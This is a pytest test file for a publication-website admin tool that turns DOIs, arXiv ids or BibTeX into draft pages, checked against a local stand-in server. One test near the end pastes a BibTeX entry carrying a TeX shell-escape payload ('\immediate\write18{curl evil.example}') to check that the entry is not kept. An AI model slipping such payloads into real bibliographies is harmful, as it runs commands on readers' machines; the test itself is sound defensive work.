"""Add a paper by identifier: DOI, arXiv id or BibTeX in, a prefilled draft (or an offer to update) out.

Every lookup goes to a local HTTP server answering with recorded responses
(``tests/fixtures/lookup/``); the settings point the clients at it.
"""

from __future__ import annotations

import datetime
import json
import socket
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group, Permission
from django.contrib.messages import get_messages

from homepage.site_tree import ensure_homepage
from profile_site.models import ProfileSettings
from publications.lookup import (
    USER_AGENT,
    Identifier,
    LookupFailed,
    fetch_metadata,
    identify,
    metadata_from_csl,
)
from publications.models import PublicationAuthor, PublicationIndexPage, PublicationLink, PublicationPage
from publications.records import MAX_AUTHORS, PaperRecord, RecordAuthor, RecordLink
from tests.helpers import LocalServer

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "lookup"
DOI = "10.18653/v1/2024.findings-acl.57"
ARXIV = "2403.12968"
TITLE = "LLMLingua-2: Data Distillation for Efficient and Faithful Task-Agnostic Prompt Compression"
AUTHORS = [
    "Zhuoshi Pan",
    "Qianhui Wu",
    "Huiqiang Jiang",
    "Menglin Xia",
    "Xufang Luo",
    "Jue Zhang",
    "Qingwei Lin",
    "Victor Rühle",
    "Yuqing Yang",
    "Chin-Yew Lin",
    "H. Vicky Zhao",
    "Lili Qiu",
    "Dongmei Zhang",
]
VENUE = "Findings of the Association for Computational Linguistics: ACL 2024"
URL = "/admin/publications/add-by-identifier/"
BIBTEX = r"""@inproceedings{pan-etal-2024-llmlingua,
    title = "{LLML}ingua-2: Data Distillation for Efficient and Faithful Task-Agnostic Prompt Compression",
    author = "Pan, Zhuoshi  and  Wu, Qianhui  and  Jiang, Huiqiang  and  R{\"u}hle, Victor",
    booktitle = "Findings of the Association for Computational Linguistics: ACL 2024",
    month = aug,
    year = "2024",
    address = "Bangkok, Thailand",
    publisher = "Association for Computational Linguistics",
    url = "https://aclanthology.org/2024.findings-acl.57/",
    doi = "10.18653/v1/2024.findings-acl.57",
    pages = "963--981",
}"""


# ---------------------------------------------------------------------------
# The local stand-in for doi.org, Crossref and arXiv
# ---------------------------------------------------------------------------

Route = Callable[[BaseHTTPRequestHandler], None]


class RecordedServer:
    """Answers like doi.org (a redirect to the registry, which honours ``Accept``) and arXiv's API."""

    def __init__(self) -> None:
        self.routes: dict[str, Route] = {}
        self.requests: list[tuple[str, dict[str, str]]] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.requests.append((self.path, dict(self.headers)))
                parts = urlsplit(self.path)
                id_list = parse_qs(parts.query).get("id_list", [""])[0]
                route = server.routes.get(f"{parts.path}?id_list={id_list}" if id_list else parts.path)
                try:
                    if route is None:
                        self.send_error(404, "Not Found")
                    else:
                        route(self)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up waiting (the timeout tests)

            def log_message(self, format, *args) -> None:
                pass

        self.server = LocalServer(Handler)
        self.url = self.server.url

    def close(self) -> None:
        self.server.close()

    def route(self, path: str, status: int = 200, body: bytes = b"", content_type: str = "", delay: float = 0) -> None:
        def answer(handler: BaseHTTPRequestHandler) -> None:
            time.sleep(delay)
            handler.send_response(status)
            handler.send_header("Content-Type", content_type or "text/plain; charset=utf-8")
            handler.send_header("Content-Length", str(len(body)))
            handler.end_headers()
            handler.wfile.write(body)

        self.routes[path] = answer

    def doi(self, doi: str, fixture: str) -> None:
        """doi.org redirects to Crossref, which serves CSL-JSON only to those who ask for it."""
        body = (FIXTURES / fixture).read_bytes()
        registry_path = f"/crossref/v1/works/{doi}/transform"

        def resolver(handler: BaseHTTPRequestHandler) -> None:
            handler.send_response(302)
            handler.send_header("Location", f"{self.url}{registry_path}")
            handler.send_header("Content-Length", "0")
            handler.end_headers()

        def registry(handler: BaseHTTPRequestHandler) -> None:
            if handler.headers.get("Accept") != "application/vnd.citationstyles.csl+json":
                handler.send_error(406, "Not Acceptable")
                return
            handler.send_response(200)
            handler.send_header("Content-Type", "application/vnd.citationstyles.csl+json")
            handler.send_header("Content-Length", str(len(body)))
            handler.end_headers()
            handler.wfile.write(body)

        self.routes[f"/doi/{doi}"] = resolver
        self.routes[registry_path] = registry

    def arxiv(self, arxiv_id: str, fixture: str) -> None:
        body = (FIXTURES / fixture).read_bytes()
        self.route(f"/arxiv/api/query?id_list={arxiv_id}", body=body, content_type="application/atom+xml")


@pytest.fixture
def registry(settings):
    server = RecordedServer()
    settings.DOI_RESOLVER_URL = f"{server.url}/doi"
    settings.ARXIV_API_URL = f"{server.url}/arxiv/api/query"
    settings.METADATA_TIMEOUT_SECONDS = 2
    server.doi(DOI, "crossref-2024.findings-acl.57.json")
    server.arxiv(ARXIV, "arxiv-2403.12968.xml")
    yield server
    server.close()


def closed_port() -> int:
    """A local port nothing listens on: connecting to it is refused, as when offline."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


# ---------------------------------------------------------------------------
# Recognising what was pasted
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (DOI, Identifier("doi", DOI)),
        (f"doi:{DOI}", Identifier("doi", DOI)),
        (f"  https://doi.org/{DOI}\n", Identifier("doi", DOI)),
        (f"http://dx.doi.org/{DOI}", Identifier("doi", DOI)),
        ("https://doi.org/10.1002/%28SICI%291097-4571", Identifier("doi", "10.1002/(SICI)1097-4571")),
        ("2403.12968", Identifier("arxiv", "2403.12968")),
        ("arXiv:2403.12968v2", Identifier("arxiv", "2403.12968v2")),
        ("https://arxiv.org/abs/2403.12968", Identifier("arxiv", "2403.12968")),
        ("https://arxiv.org/pdf/2403.12968v2", Identifier("arxiv", "2403.12968v2")),
        ("hep-th/9901001", Identifier("arxiv", "hep-th/9901001")),
        ("arXiv:math.GT/0309136", Identifier("arxiv", "math.GT/0309136")),
        ("https://doi.org/10.48550/arXiv.2403.12968", Identifier("arxiv", "2403.12968")),
        (BIBTEX, Identifier("bibtex", BIBTEX)),
    ],
)
def test_identify_recognises_every_spelling(text, expected):
    assert identify(text) == expected


@pytest.mark.parametrize(
    "text", ["", "   ", "LLMLingua-2", "10.12/too-short-a-prefix", "2403.129", "https://example.org/2403.12968"]
)
def test_identify_refuses_anything_else_with_a_clear_message(text):
    with pytest.raises(ValueError, match=r"DOI|Paste a DOI") as error:
        identify(text)
    assert "arXiv" in str(error.value)


# ---------------------------------------------------------------------------
# Fetching and reading
# ---------------------------------------------------------------------------


def test_fetch_doi_reads_crossref_csl_json(registry):
    metadata = fetch_metadata(Identifier("doi", DOI))

    assert metadata == PaperRecord(
        title=TITLE,
        authors=[RecordAuthor(name) for name in AUTHORS],
        venue=VENUE,
        year=2024,
        month=8,
        day=None,
        precision="month",
        abstract=(
            "This paper focuses on task-agnostic prompt compression for better generalizability and efficiency. "
            "Considering the redundancy in natural language, existing approaches compress prompts by removing "
            "tokens or lexical units according to their information entropy obtained from a causal language model "
            "such as LLaMa-7B. The challenge is that information entropy may be a suboptimal compression metric: "
            "(i) it only leverages unidirectional context and may fail to capture all essential information needed "
            "for prompt compression; (ii) it is not aligned with the prompt compression objective.\n\n"
            "To address these issues, we propose a data distillation procedure to derive knowledge from an LLM to "
            "compress prompts without losing crucial information, and meantime, introduce an extractive text "
            "compression dataset. Our model is 3x–6x faster than existing prompt compression methods, while "
            "accelerating the end-to-end latency by 1.6x–2.9x with compression ratios of 2x–5x."
        ),
        doi=DOI,
        arxiv_id="",
        url=f"https://doi.org/{DOI}",
        publication_type="conference",
        links=[RecordLink("paper", f"https://doi.org/{DOI}")],
        source="Crossref",
    )
    (resolver_path, headers), (registry_path, _) = registry.requests
    assert resolver_path == f"/doi/{DOI}" and registry_path.startswith("/crossref/")
    assert headers["Accept"] == "application/vnd.citationstyles.csl+json"
    assert headers["User-Agent"] == USER_AGENT


def test_fetch_arxiv_reads_the_atom_feed(registry):
    metadata = fetch_metadata(Identifier("arxiv", ARXIV))

    assert metadata.title == TITLE  # arXiv wraps long titles; the line break is gone
    assert [author.name for author in metadata.authors] == AUTHORS
    assert (metadata.year, metadata.month, metadata.day, metadata.precision) == (2024, 3, 19, "day")
    assert metadata.abstract.startswith("This paper focuses on task-agnostic prompt compression for better generaliz")
    assert "\n" not in metadata.abstract and metadata.abstract.endswith("extractive text compression dataset.")
    assert metadata.venue == "arXiv preprint arXiv:2403.12968"
    assert (metadata.arxiv_id, metadata.doi, metadata.category) == ("2403.12968", "", "cs.CL")
    assert metadata.publication_type == "preprint"
    assert metadata.url == "https://arxiv.org/abs/2403.12968"
    assert metadata.links == [
        RecordLink("paper", "https://arxiv.org/abs/2403.12968"),
        RecordLink("pdf", "https://arxiv.org/pdf/2403.12968"),
    ]
    path, headers = registry.requests[0]
    assert path.startswith("/arxiv/api/query?id_list=2403.12968")
    assert headers["User-Agent"] == USER_AGENT


def test_csl_json_from_datacite_with_organisations_and_markup():
    """DataCite's CSL: organisations as ``literal`` names, a year only, markup in the title."""
    metadata = metadata_from_csl(
        {
            "type": "dataset",
            "id": "https://doi.org/10.5281/zenodo.1234567",
            "DOI": "10.5281/zenodo.1234567",
            "title": "MeetingBank-<i>LLMCompressed</i> &amp; friends",
            "abstract": "Prompts where x < y and y > z.",
            "author": [{"literal": "Microsoft Research"}, {"family": "Pan", "given": "Zhuoshi"}],
            "issued": {"date-parts": [[2024]]},
            "publisher": "Zenodo",
        }
    )
    assert metadata.title == "MeetingBank-LLMCompressed & friends"
    assert [author.name for author in metadata.authors] == ["Microsoft Research", "Zhuoshi Pan"]
    assert (metadata.year, metadata.month, metadata.precision) == (2024, None, "year")
    assert metadata.abstract == "Prompts where x < y and y > z."  # a formula is not markup
    assert (metadata.publication_type, metadata.venue, metadata.source) == ("other", "", "doi.org")


def test_a_registry_listing_thousands_of_authors_gives_a_paper_the_first_500():
    metadata = metadata_from_csl(
        {
            "type": "article-journal",
            "DOI": "10.1/atlas",
            "title": "Observation of a new particle",
            "author": [{"family": f"Physicist{number}", "given": "A."} for number in range(3_000)],
        }
    )
    assert len(metadata.authors) == MAX_AUTHORS == 500
    assert metadata.authors[-1].name == "A. Physicist499"


# ---------------------------------------------------------------------------
# Failures: one LookupFailed, a message the editor can act on
# ---------------------------------------------------------------------------


def slow_doi(registry, settings):
    settings.METADATA_TIMEOUT_SECONDS = 0.2
    registry.route(f"/doi/{DOI}", body=b"{}", delay=1.0)
    return Identifier("doi", DOI)


def failing_arxiv(registry, settings):
    registry.route(f"/arxiv/api/query?id_list={ARXIV}", status=500, body=b"Internal Server Error")
    return Identifier("arxiv", ARXIV)


def offline(registry, settings):
    settings.DOI_RESOLVER_URL = f"http://127.0.0.1:{closed_port()}"
    return Identifier("doi", DOI)


def unknown_doi(registry, settings):
    return Identifier("doi", "10.18653/v1/2099.nothing-here")


def html_instead_of_metadata(registry, settings):
    registry.route(f"/doi/{DOI}", body=b"<!doctype html><title>Landing page</title>", content_type="text/html")
    return Identifier("doi", DOI)


def unknown_arxiv_id(registry, settings):
    registry.arxiv("2499.99999", "arxiv-not-found.xml")
    return Identifier("arxiv", "2499.99999")


def malformed_arxiv_id(registry, settings):
    registry.arxiv("1234.1234", "arxiv-error.xml")
    return Identifier("arxiv", "1234.1234")


def throttled_arxiv(registry, settings):
    registry.route(f"/arxiv/api/query?id_list={ARXIV}", body=b"Rate exceeded.")
    return Identifier("arxiv", ARXIV)


FAILURES = [
    (slow_doi, "did not answer within 0.2 seconds. Check your connection and try again; nothing was created."),
    (failing_arxiv, "answered with an error (HTTP 500 Internal Server Error). Try again later; nothing was created."),
    (offline, "No connection to 127.0.0.1:"),
    (unknown_doi, "does not know the DOI 10.18653/v1/2099.nothing-here. Check it for typos"),
    (html_instead_of_metadata, "sent no citation metadata for 10.18653/v1/2024.findings-acl.57"),
    (unknown_arxiv_id, "arXiv does not know 2499.99999"),
    (malformed_arxiv_id, "arXiv does not know 1234.1234"),
    (throttled_arxiv, "is limiting requests: wait a minute and try again"),
]


@pytest.mark.parametrize(("failure", "message"), FAILURES, ids=[failure.__name__ for failure, _ in FAILURES])
def test_every_failure_is_one_lookup_failed_with_a_clear_message(registry, settings, failure, message):
    identifier = failure(registry, settings)
    started = time.monotonic()
    with pytest.raises(LookupFailed) as error:
        fetch_metadata(identifier)
    assert message in error.value.message
    assert "nothing was created" in error.value.message
    assert time.monotonic() - started < 1.0  # a timeout is the configured one, not the server's delay


def test_no_connection_says_so_in_words_and_offers_the_paste_field(registry, settings):
    offline(registry, settings)
    with pytest.raises(LookupFailed) as error:
        fetch_metadata(Identifier("doi", DOI))
    assert "Paste the paper's BibTeX in this field instead" in error.value.message
    assert "Errno" not in error.value.message and "refused" not in error.value.message


# ---------------------------------------------------------------------------
# The admin view
# ---------------------------------------------------------------------------


@pytest.fixture
def index(db):
    home, site, _ = ensure_homepage()
    profile = ProfileSettings.for_site(site)
    profile.name = "Zhuoshi Pan"
    profile.save()
    return PublicationIndexPage.ensure_under(home)


def add_publication(index, authors: list[str], links: list[tuple[str, str]] = (), **fields) -> PublicationPage:
    page = PublicationPage(**fields)
    page.authors = [PublicationAuthor(name=name) for name in authors]
    page.links = [PublicationLink(kind=kind, url=url) for kind, url in links]
    index.add_child(instance=page)
    page.save_revision().publish()
    return page


def submit(client, text: str):
    return client.post(URL, {"identifier": text})


def form_errors(response) -> str:
    soup = BeautifulSoup(response.content, "html.parser")
    return " ".join(error.get_text(" ", strip=True) for error in soup.select(".error-message, .errorlist"))


def test_anonymous_visitors_are_sent_to_the_login(client, index):
    response = client.get(URL)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")
    assert client.post(URL, {"identifier": DOI}).status_code == 302
    assert not PublicationPage.objects.exists()


def test_the_admin_menu_and_the_publications_index_offer_it(admin_client, index):
    assert "Add by DOI / arXiv" in admin_client.get("/admin/").content.decode()
    assert URL in admin_client.get(f"/admin/pages/{index.pk}/").content.decode()
    response = admin_client.get(URL)
    assert response.status_code == 200
    assert BeautifulSoup(response.content, "html.parser").select_one("textarea[name=identifier]") is not None


def test_editors_who_cannot_add_publications_are_turned_away(client, index, django_user_model):
    editor = django_user_model.objects.create_user("reader", password="x")
    group = Group.objects.create(name="Admin access only")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    editor.groups.add(group)
    client.force_login(editor)
    assert "Add by DOI / arXiv" not in client.get("/admin/").content.decode()
    response = client.post(URL, {"identifier": DOI})
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert not PublicationPage.objects.exists()


def test_the_owner_is_found_by_a_name_variant(admin_client, index, registry):
    profile = ProfileSettings.for_site(index.get_site())
    profile.name, profile.name_variants = "Pan Zhuoshi", "Z. Pan"
    profile.save()
    submit(admin_client, DOI)
    authors = PublicationPage.objects.get().authors.all()
    assert [author.name for author in authors if author.is_owner] == ["Zhuoshi Pan"]


def test_a_doi_becomes_a_prefilled_draft(admin_client, index, registry):
    response = submit(admin_client, f"https://doi.org/{DOI}")

    page = PublicationPage.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/admin/pages/{page.pk}/edit/"
    assert not page.live and page.get_parent().pk == index.pk
    assert page.title == TITLE and page.venue == VENUE
    assert (page.date, page.date_precision, page.publication_type) == (datetime.date(2024, 8, 1), "month", "conference")
    assert page.doi == DOI and page.arxiv_id == ""
    assert page.abstract.startswith("This paper focuses on task-agnostic prompt compression")
    authors = list(page.authors.order_by("sort_order"))
    assert [author.name for author in authors] == AUTHORS
    assert [author.name for author in authors if author.is_owner] == ["Zhuoshi Pan"]
    assert [(link.kind, link.url) for link in page.links.all()] == [("paper", f"https://doi.org/{DOI}")]
    assert page.revisions.count() == 1
    followed = admin_client.get(response["Location"])
    assert "created from Crossref" in followed.content.decode()


def test_a_new_arxiv_preprint_gets_its_pdf_link(admin_client, index, registry):
    submit(admin_client, "arXiv:2403.12968")
    page = PublicationPage.objects.get()
    assert (page.arxiv_id, page.publication_type, page.venue) == (ARXIV, "preprint", "arXiv preprint arXiv:2403.12968")
    assert [(link.kind, link.url) for link in page.links.all()] == [
        ("paper", "https://arxiv.org/abs/2403.12968"),
        ("pdf", "https://arxiv.org/pdf/2403.12968"),
    ]


@pytest.mark.parametrize(
    ("failure", "message"),
    [FAILURES[0], FAILURES[1], FAILURES[2]],
    ids=["timeout", "http-500", "connection-refused"],
)
def test_a_failed_lookup_is_a_form_error_and_creates_nothing(admin_client, index, registry, settings, failure, message):
    identifier = failure(registry, settings)
    response = submit(admin_client, identifier.value)
    assert response.status_code == 200
    assert message in form_errors(response)
    assert BeautifulSoup(response.content, "html.parser").select_one("textarea").get_text().strip() == identifier.value
    assert not PublicationPage.objects.exists()


def test_garbage_is_a_form_error(admin_client, index, registry):
    response = submit(admin_client, "my new paper")
    assert "is not a DOI" in form_errors(response)
    assert not registry.requests and not PublicationPage.objects.exists()


def test_the_preprint_of_a_published_paper_is_offered_as_an_update(admin_client, index, registry):
    published = add_publication(
        index,
        authors=["Zhuoshi Pan", "Qianhui Wu"],
        links=[("paper", "https://aclanthology.org/2024.findings-acl.57/")],
        title=TITLE.upper(),  # the same normalised title
        slug="llmlingua-2",
        venue=VENUE,
        venue_short="ACL'24 Findings",
        publication_type="conference",
        date=datetime.date(2024, 8, 1),
        date_precision="month",
        doi=DOI,
    )

    response = submit(admin_client, "https://arxiv.org/abs/2403.12968")

    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    assert "found by its title" in soup.get_text(" ", strip=True)
    assert soup.find("a", href=f"/admin/pages/{published.pk}/edit/") is not None
    buttons = {button["value"]: button.get_text(strip=True) for button in soup.select("button[name=choice]")}
    assert buttons == {"update": "Update the existing record", "create": "Create a separate record anyway"}
    assert PublicationPage.objects.count() == 1

    lookup = soup.select_one("input[name=lookup]")["value"]
    response = admin_client.post(URL, {"lookup": lookup, "choice": "update"})

    assert response.status_code == 302 and response["Location"] == f"/admin/pages/{published.pk}/edit/"
    assert "updated from arXiv as a draft" in admin_client.get(response["Location"]).content.decode()
    assert PublicationPage.objects.count() == 1
    published.refresh_from_db()
    assert published.live and published.has_unpublished_changes and published.revisions.count() == 2
    assert published.arxiv_id == ""  # the live version is untouched until the owner publishes
    draft = published.get_latest_revision_as_object()
    assert draft.arxiv_id == ARXIV
    assert (draft.venue, draft.venue_short, draft.publication_type) == (VENUE, "ACL'24 Findings", "conference")
    assert [(link.kind, link.url, link.label) for link in draft.links.all()] == [
        ("paper", "https://aclanthology.org/2024.findings-acl.57/", ""),
        ("paper", "https://arxiv.org/abs/2403.12968", "arXiv"),
        ("pdf", "https://arxiv.org/pdf/2403.12968", ""),
    ]


def test_the_published_version_of_a_preprint_updates_it(admin_client, index, registry):
    preprint = add_publication(
        index,
        authors=["Zhuoshi Pan", "Qianhui Wu"],
        links=[("paper", "https://arxiv.org/abs/2403.12968")],
        title=TITLE,
        slug="llmlingua-2",
        venue="arXiv preprint arXiv:2403.12968",
        publication_type="preprint",
        date=datetime.date(2024, 3, 1),
        date_precision="month",
        arxiv_id="2403.12968v1",
    )
    preprint.authors.filter(name="Qianhui Wu").update(url="https://example.org/qianhui")
    preprint.save_revision().publish()

    soup = BeautifulSoup(submit(admin_client, DOI).content, "html.parser")
    lookup = soup.select_one("input[name=lookup]")["value"]
    admin_client.post(URL, {"lookup": lookup, "choice": "update"})

    draft = PublicationPage.objects.get().get_latest_revision_as_object()
    assert (draft.publication_type, draft.venue, draft.doi, draft.arxiv_id) == (
        "conference",
        VENUE,
        DOI,
        "2403.12968v1",
    )
    assert (draft.date, draft.date_precision) == (datetime.date(2024, 8, 1), "month")
    authors = list(draft.authors.all())
    assert [author.name for author in authors] == AUTHORS
    assert next(author.url for author in authors if author.name == "Qianhui Wu") == "https://example.org/qianhui"
    assert [(link.kind, link.url, link.label) for link in draft.links.all()] == [
        ("paper", f"https://doi.org/{DOI}", ""),
        ("paper", "https://arxiv.org/abs/2403.12968", "arXiv"),
    ]


def test_a_matching_arxiv_id_is_found_whatever_its_version(admin_client, index, registry):
    add_publication(index, authors=["Zhuoshi Pan"], title="An early title", slug="early", arxiv_id="2403.12968v1")
    response = submit(admin_client, "2403.12968")
    assert "found by its arXiv id" in BeautifulSoup(response.content, "html.parser").get_text(" ", strip=True)


def test_creating_a_separate_record_anyway(admin_client, index, registry):
    add_publication(index, authors=["Zhuoshi Pan"], title=TITLE, slug="llmlingua-2", doi=DOI)
    soup = BeautifulSoup(submit(admin_client, DOI).content, "html.parser")
    response = admin_client.post(URL, {"lookup": soup.select_one("input[name=lookup]")["value"], "choice": "create"})

    new = PublicationPage.objects.exclude(slug="llmlingua-2").get()
    assert response["Location"] == f"/admin/pages/{new.pk}/edit/"
    assert not new.live and new.title == TITLE and new.slug != "llmlingua-2"


def test_a_tampered_choice_is_refused(admin_client, index, registry):
    page = add_publication(index, authors=["Zhuoshi Pan"], title=TITLE, slug="llmlingua-2", doi=DOI)
    response = admin_client.post(URL, {"lookup": json.dumps({"page": page.pk}), "choice": "update"}, follow=True)
    assert "paste the identifier again" in response.content.decode()
    assert page.revisions.count() == 1


def test_a_pasted_bibtex_entry_becomes_a_draft(admin_client, index, registry):
    response = submit(admin_client, BIBTEX)

    page = PublicationPage.objects.get()
    assert response["Location"] == f"/admin/pages/{page.pk}/edit/"
    assert not page.live and page.title == TITLE and page.venue == VENUE
    assert [author.name for author in page.authors.all()] == [
        "Zhuoshi Pan",
        "Qianhui Wu",
        "Huiqiang Jiang",
        "Victor Rühle",
    ]
    assert page.authors.get(name="Zhuoshi Pan").is_owner
    assert (page.date, page.date_precision, page.doi) == (datetime.date(2024, 8, 1), "month", DOI)
    assert [(link.kind, link.url) for link in page.links.all()] == [
        ("paper", "https://aclanthology.org/2024.findings-acl.57/")
    ]
    assert page.bibtex == BIBTEX  # the owner's entry, served as written
    assert not registry.requests  # BibTeX needs no lookup


def test_a_pasted_entry_with_tex_that_runs_becomes_a_draft_without_it(admin_client, index, registry):
    """The draft is read from the entry; the entry itself, which visitors would compile, is not kept."""
    pasted = BIBTEX.replace(
        'pages = "963--981",', 'pages = "963--981",\n    note = {\\immediate\\write18{curl evil.example}},'
    )
    response = submit(admin_client, pasted)
    page = PublicationPage.objects.get()
    assert response["Location"] == f"/admin/pages/{page.pk}/edit/"
    assert (page.title, page.doi, page.bibtex) == (TITLE, DOI, "")
    [warning] = [message for message in get_messages(response.wsgi_request) if message.level_tag == "warning"]
    assert BeautifulSoup(str(warning), "html.parser").get_text(" ", strip=True) == (
        "The entry holds TeX that reads or writes files, runs programs or redefines commands where a document "
        "cites it (\\immediate, \\write): it was read, but not kept as the page's own."
    )


def test_unreadable_bibtex_is_a_form_error(admin_client, index, registry):
    response = submit(admin_client, "@article{broken, title = {No end")
    assert "This BibTeX cannot be read" in form_errors(response)
    assert not PublicationPage.objects.exists()
